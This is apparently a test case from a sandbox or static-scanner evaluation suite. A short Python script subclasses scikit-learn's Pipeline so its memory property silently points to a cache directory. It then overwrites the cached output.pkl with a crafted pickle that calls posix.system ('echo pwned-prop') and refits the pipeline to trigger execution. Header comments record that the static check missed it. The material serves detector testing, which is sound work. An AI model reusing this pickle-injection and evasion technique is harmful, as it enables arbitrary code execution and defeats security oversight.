# family: data_pickle
# reached: process, before process 1 closed the door (runner/sandbox/init.py, settle_packages)
# layer: static
# static: missed
# A Pipeline subclass whose memory is a property: the setter drops the None __init__ stores,
# the getter answers a cache directory. No memory= keyword, set_params, setattr or string
# "memory" is in the program; the next fit loads the cached pickle the program rewrote.
import pathlib
import numpy as np
from sklearn.linear_model import LinearRegression
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import StandardScaler


class CachedPipeline(Pipeline):
    @property
    def memory(self):
        return "fitcache"

    @memory.setter
    def memory(self, value):
        pass


X = np.arange(40.0).reshape(20, 2)
y = np.arange(20.0)
steps = [("scale", StandardScaler()), ("lr", LinearRegression())]
CachedPipeline(steps).fit(X, y)
for cached in pathlib.Path("fitcache").rglob("output.pkl"):
    cached.write_bytes(b"cposix\nsystem\n(S'echo pwned-prop'\ntR.")
try:
    CachedPipeline(steps).fit(X, y)
except TypeError as exc:
    print("fit failed:", type(exc).__name__)
